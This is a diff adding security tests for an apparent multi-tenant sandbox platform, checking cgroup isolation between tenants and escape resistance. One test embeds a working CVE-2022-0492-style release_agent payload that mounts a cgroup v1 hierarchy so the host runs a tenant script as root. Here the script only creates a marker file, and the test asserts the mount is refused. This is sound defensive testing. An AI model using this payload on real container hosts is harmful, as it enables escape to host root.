@@ -894,3 +894,76 @@ def test_pool_setsid_descendant_survives_kill(pool):
     time.sleep(1.5)
     s2 = _heartbeat_size(a, hb)
     assert s1 == s2, f"ATTACK: a setsid() descendant outlived a kill ({s1}->{s2})"
+
+
+def test_pool_hosts_of_two_tenants_share_no_cgroup(plat, tenants):
+    """One pool host exiting must not take another tenant's sandbox cgroups with it."""
+    jobs, tags, pids = {}, {}, {}
+    for ns in ("rba", "rbv"):
+        j = plat.create_on("rb-n1", ns, token=tenants[ns], flavor="cpu-small", mode="pool")
+        r = j.proxy("POST", AGENT_PORT, "/v1/sandboxes", {"count": 1})
+        assert r.status == 200, r
+        sb = Pooled(j, r.json()["sandboxes"][0])
+        tags[ns] = "1000." + str(secrets.randbelow(10 ** 6))
+        sb.start(["sleep", tags[ns]])
+        found = wait_until(lambda t=tags[ns]: host_pids_with("sleep\0" + t), 5)
+        assert found, f"control: the host sees {ns}'s sandbox process"
+        jobs[ns], pids[ns] = (j, sb), found[0]
+    cg = {ns: cgroups_of(pid) for ns, pid in pids.items()}
+    mem = next(k for k in cg["rba"] if "memory" in k.split(","))
+    assert cg["rba"][mem] != cg["rbv"][mem], f"ATTACK: two tenants' sandboxes share {cg}"
+    victim_dir = "/sys/fs/cgroup/memory" + cg["rbv"][mem]
+    assert os.path.isdir(victim_dir), f"control: the victim's sandbox cgroup {victim_dir}"
+    jobs["rba"][0].cancel()
+    assert wait_until(lambda: not os.path.exists(f"/proc/{pids['rba']}"), 10), \
+        "control: the canceled pool host's sandbox is gone"
+    try:
+        assert os.path.exists(f"/proc/{pids['rbv']}"), \
+            "ATTACK: another pool host's exit killed this tenant's sandbox"
+        assert os.path.isdir(victim_dir), \
+            "ATTACK: another pool host's exit removed this tenant's sandbox cgroup"
+        res = jobs["rbv"][1].exec("echo alive")
+        assert res.out == "alive\n", res
+    finally:
+        jobs["rbv"][0].cancel()
+
+
+RELEASE_AGENT = r'''
+import ctypes, os, subprocess, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+agent = sys.argv[1]
+d = "/tmp/sbx-cg-%d" % os.getpid()
+os.makedirs(d, exist_ok=True)
+tried = []
+for opts in ("none,name=sbxhostile", "rdma", "memory", "pids"):
+    if libc.mount(b"cgroup", d.encode(), b"cgroup", 0, opts.encode()) == 0:
+        break
+    tried.append("%s:%d" % (opts, ctypes.get_errno()))
+else:
+    print("REFUSED", tried)
+    sys.exit(0)
+print("MOUNTED", opts)
+os.mkdir(d + "/x")
+open(d + "/x/notify_on_release", "w").write("1")
+open(d + "/release_agent", "w").write(agent)
+subprocess.run(["sh", "-c", "echo $$ > %s/x/cgroup.procs" % d])
+time.sleep(1)
+libc.umount2(d.encode(), 2)
+'''
+
+
+def test_release_agent_runs_tenant_script_as_host_root(E, host, attacker):
+    """CVE-2022-0492's shape: mount a cgroup v1 hierarchy, point release_agent at a script of
+    the run (by its host path) and empty a cgroup. Refused, no marker; control: the script, run
+    by the host, leaves the marker."""
+    marker = os.path.join(E.work, rand("release-marker-"))
+    put(attacker, "/tmp/sbx-ra.sh", f"#!/bin/sh\ntouch {marker}\n".encode())
+    put(attacker, "/tmp/sbx-ra.py", RELEASE_AGENT.encode())
+    host_path = in_run(attacker, "/tmp/sbx-ra.sh")
+    r = rx(attacker, f"chmod 755 /tmp/sbx-ra.sh && python3 /tmp/sbx-ra.py {host_path}")
+    seen = os.path.exists(marker)
+    subprocess.run(["sh", host_path], check=True, timeout=10)  # control
+    assert os.path.exists(marker)
+    os.unlink(marker)
+    assert "MOUNTED" not in r.out and not seen, f"ATTACK: release_agent reachable: {r}"
+    assert "REFUSED" in r.out, r
